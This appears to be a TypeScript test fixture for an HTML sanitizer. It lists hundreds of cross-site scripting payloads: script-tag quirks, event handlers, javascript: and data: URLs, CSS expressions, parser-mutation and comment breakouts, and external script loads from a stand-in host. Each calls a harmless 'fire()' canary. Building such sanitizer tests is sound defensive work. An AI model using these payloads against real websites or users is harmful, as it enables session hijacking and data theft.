// Hostile fragments: each tries to call `fire()`, or `top.fire()` from a frame. They combine the publicly known kinds of vectors: script
// elements and their parsing quirks, event handlers, addresses of links and frames, styles, foreign content, mutations of the parser,
// comments, documents in attributes, encodings, and breaks out of attributes and raw-text elements.
const call = 'fire()'

const scripts = [
  '<script>fire()</script>', '<SCRIPT>fire()</SCRIPT>', '<script >fire()</script >', '<script/x>fire()</script>', '<script\n>fire()</script>',
  '<script\t>fire()</script>', '<script\f>fire()</script>', '<<script>fire()//<</script>', '<script>fire()', '<script>fire()<!--',
  '<scr<script>ipt>fire()</scr</script>ipt>', '<script src="data:text/javascript,fire()"></script>', '<script type="module">fire()</script>',
  '<script src=//x.invalid/a.js></script>', '<script>/*</script><script>*/fire()</script>', '<svg><script>fire()</script></svg>',
  '<svg><script href="data:,fire()"/></svg>', '<svg><script xlink:href="data:text/javascript,fire()"></script></svg>',
  '<math><script>fire()</script></math>', '<noscript><script>fire()</script></noscript>', '<template><script>fire()</script></template>',
  '<p><script>fire()</script></p>', '<ul><li><script>fire()</script>', '</p><script>fire()</script>', '\0<script>fire()</script>', '<scr\0ipt>fire()</scr\0ipt>',
] // prettier-ignore

const handled = [
  'img src=x',
  'img src=/storage/x',
  'svg',
  'body',
  'p',
  'a href=#',
  'div',
  'span',
  'table',
  'td',
  'input autofocus',
  'video src=x',
  'audio src=x',
  'details open',
  'marquee',
  'iframe',
  'object data=x',
  'embed src=x',
  'form',
  'button',
  'select autofocus',
  'textarea autofocus',
  'style',
  'link rel=stylesheet href=x',
  'image src=x',
  'math',
  'blockquote',
  'h2',
  'li',
  'keygen autofocus',
]
const events = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onpointerenter',
]

const handlers = handled.flatMap((element, index) => {
  const first = events[index % events.length]
  const second = events[(index + 3) % events.length]
  return [`<${element} ${first}=${call}>x`, `<${element} ${second?.toUpperCase()}="${call}" />x`]
})

const attributeTricks = [
  `<img/src=x/onerror=${call}>`, `<img src=x\nonerror\n=\n"${call}">`, `<img src="x"onerror="${call}">`, `<img """><img src=x onerror=${call}>`,
  `<img src=x onerror\f=${call}>`, `<img src=x onerror=&#102;ire()>`, `<img src=x onerror="&#x66;ire()">`, `<img src=x one\0rror=${call}>`,
  `<img title='"><img src=x onerror=${call}>'>`, `<p title="</p><img src=x onerror=${call}>">x</p>`, `<a title="'><svg onload=${call}>">x</a>`,
  `<img alt="\`><img src=x onerror=${call}>" src=x>`, `<p id="x" style="x" /onclick=${call}>x`, `<img src=x:x onerror=${call}>`, `<img src onerror=${call}>`,
  `<svg/onload=${call}>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<svg><set onbegin=${call} attributename=x>`,
  `<input onfocus=${call} autofocus>`, `<body onpageshow=${call}>`, `<html onmouseover=${call}>`, `<frameset onload=${call}>`, `<style onload=${call}></style>`,
  `<object data="data:text/html,<script>top.fire()</script>"></object>`, `<embed src="data:text/html,<script>top.fire()</script>">`,
  `<x onclick=${call}>x</x>`, `<x-y onmouseenter=${call}>x</x-y>`, `<isindex action=javascript:${call} type=image>`,
] // prettier-ignore

const schemes = [
  'javascript:fire()',
  'JaVaScRiPt:fire()',
  ' javascript:fire()',
  '\u0001javascript:fire()',
  'java\tscript:fire()',
  'java\nscript:fire()',
  'java\rscript:fire()',
  'javascript&colon;fire()',
  'javascript&#58;fire()',
  '&#106;avascript:fire()',
  '&#x6A;avascript:fire()',
  'javascript&#x3A;fire()',
  'java&Tab;script:fire()',
  'java&NewLine;script:fire()',
  'vbscript:fire()',
  'data:text/html,<script>top.fire()</script>',
  'data:text/html;base64,PHNjcmlwdD50b3AuZmlyZSgpPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg onload=fire()>',
  'feed:javascript:fire()',
  'view-source:javascript:fire()',
  'jar:javascript:fire()',
  'blob:javascript:fire()',
  '//x.invalid/%0Ajavascript:fire()',
  'javascript://%0Afire()',
  'javascript:/*--></title></style></script>*/fire()',
]

const addresses = schemes.flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<img src="${address}">`,
  `<iframe src="${address}"></iframe>`,
])

const otherAddresses = [
  '<form action="javascript:fire()"><button>x</button></form>', '<button formaction="javascript:fire()">x</button>', '<base href="javascript:/a/-fire()//">',
  '<meta http-equiv="refresh" content="0;url=javascript:fire()">', '<meta http-equiv="refresh" content="0;url=data:text/html,<script>top.fire()</script>">',
  '<link rel="import" href="data:text/html,<script>fire()</script>">', '<object><param name="src" value="javascript:fire()"></object>', '<table background="javascript:fire()"><td>x',
  '<video><source onerror="fire()"></video>', '<video poster="javascript:fire()"></video>', '<svg><a xlink:href="javascript:fire()"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>fire()</script></svg>#x"></use></svg>',
  '<math href="javascript:fire()">x</math>', '<math><mi xlink:href="javascript:fire()">x</mi></math>', '<svg><animate attributeName=href values="javascript:fire()" /><a id=x></a></svg>',
  '<iframe srcdoc="<script>top.fire()</script>"></iframe>', '<iframe srcdoc="&lt;script&gt;top.fire()&lt;/script&gt;"></iframe>', '<portal src="javascript:fire()"></portal>',
] // prettier-ignore

const styles = [
  '<style>@import "javascript:fire()";</style>', '<style>body{background:url(javascript:fire())}</style>', '<p style="background:url(javascript:fire())">x</p>',
  '<p style="width:expression(fire())">x</p>', '<p style="-moz-binding:url(//x.invalid)">x</p>', '<p style="behavior:url(x.htc)">x</p>', '<p style="background:\\75rl(javascript:fire())">x</p>',
  '<p style="color:red;}</style><script>fire()</script>">x</p>', '<p style="animation-name:x" onanimationstart="fire()">x</p>', '<html style="background:url(javascript:fire())">x',
  '<style><img src="</style><img src=x onerror=fire()>">', '<style></style><img src=x onerror=fire()>', '<svg><style><img src=x onerror=fire()></style></svg>', '<xss style="xss:expression(fire())">',
] // prettier-ignore

const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fire()&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=fire()>">', '<math></br><style><a title="</style><img src=1 onerror=fire()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=fire()>', '<noscript><p title="</noscript><img src=x onerror=fire()>">',
  '<textarea><p title="</textarea><img src=x onerror=fire()>">', '<title><p title="</title><img src=x onerror=fire()>">', '<xmp><p title="</xmp><img src=x onerror=fire()>"></xmp>',
  '<noembed><p title="</noembed><img src=x onerror=fire()>">', '<noframes><p title="</noframes><img src=x onerror=fire()>">', '<iframe><p title="</iframe><img src=x onerror=fire()>">',
  '<plaintext><img src=x onerror=fire()>', '<listing>&lt;img src=x onerror=fire()&gt;</listing>', '<select><template><img src=x onerror=fire()></template></select>',
  '<select><style></select><img src=x onerror=fire()>', '<table><caption><svg><desc><table><caption><img src=x onerror=fire()>', '<p><svg><foreignObject><img src=x onerror=fire()>',
  '<svg><title><img src=x onerror=fire()></title></svg>', '<math><annotation-xml encoding="text/html"><img src=x onerror=fire()></annotation-xml></math>', '<math><mi><img src=x onerror=fire()>',
  '<!--><img src=x onerror=fire()>-->', '<!---><img src=x onerror=fire()>-->', '<!-- --!><img src=x onerror=fire()>', '<!--<img src="--><img src=x onerror=fire()>">', '<![CDATA[<img src=x onerror=fire()>]]>',
  '<svg><![CDATA[><img src=x onerror=fire()>]]></svg>', '<?xml version="1.0"?><img src=x onerror=fire()>', '<?php ><img src=x onerror=fire()>?>', '<! foo="><img src=x onerror=fire()>">', '</ foo="><img src=x onerror=fire()>">',
  '<% foo><img src=x onerror=fire()>%>', '<a foo="\u2028" href=`x`><img src=x onerror=fire()></a>', '&lt;img src=x onerror=fire()&gt;<img src=x onerror=fire()>', '<b <script>fire()</script>0', '<div><a href="x"<img src=x onerror=fire()>',
  '<img src="x` `<script>fire()</script>"` `>', '<p>\uFEFF<img\uFEFF src=x onerror=fire()>', '<h1><p></h1><svg onload=fire()>', '<a><table><td></a><img src=x onerror=fire()>', '<code><pre></code><svg/onload=fire()></pre>',
  '<dialog open onclose=fire()>x</dialog>', '<object type="text/x-scriptlet" data="javascript:fire()"></object>', '<svg><image href=x onerror=fire()></svg>', '<ol><li style="list-style:url(javascript:fire())">x', '<template shadowrootmode=open><img src=x onerror=fire()></template>',
] // prettier-ignore

export const hostileHtml: readonly string[] = [
  ...scripts,
  ...handlers,
  ...attributeTricks,
  ...addresses,
  ...otherAddresses,
  ...styles,
  ...mutations,
]
